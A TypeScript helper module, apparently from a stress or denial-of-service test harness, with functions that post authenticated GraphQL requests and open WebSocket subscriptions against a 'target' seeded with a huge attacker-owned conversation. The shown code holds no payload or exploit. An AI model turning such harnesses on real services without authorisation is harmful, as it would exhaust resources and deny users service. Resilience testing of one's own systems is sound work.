import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';

/** Where an attack goes, and by whose right. */
export interface Target {
  url: string;
  token: string;
  /** A conversation of the attacker's with 100 messages of 32,000 Chinese characters. */
  conversationId: string;
}

/** Posts an operation. */
export function post(
  { url, token }: Target,
  query: string,
  variables: object,
  signal?: AbortSignal,
): Promise<Response> {
  return fetch(`${url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify({ query, variables }),
    ...(signal && { signal }),
  });
}

/** Posts an operation, and reads its response. */
export async function ask(target: Target, query: string, variables: object): Promise<void> {
  try {
    const response = await post(target, query, variables);
    for await (const _ of response.body ?? []);
  } catch {
    await delay(100);
  }
}

/** Resolves when it is closed, also by a refusal of its handshake. */
export function closeOf(socket: WebSocket): Promise<void> {
  socket.on('error', () => {});
  return new Promise((resolve) => socket.once('close', () => resolve()));
}

/** A WebSocket that the server has let in; null: it has not, a little later. */
export async function openSocket({ url, token }: Target): Promise<WebSocket | null> {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
  const closed = closeOf(socket);
  await Promise.race([once(socket, 'open').catch(() => {}), closed]);
  if (socket.readyState === socket.OPEN) {
    socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${token}` } }));
    await Promise.race([once(socket, 'message').catch(() => {}), closed]);
  }
  if (socket.readyState === socket.OPEN) return socket;
  await delay(100);
  return null;
}
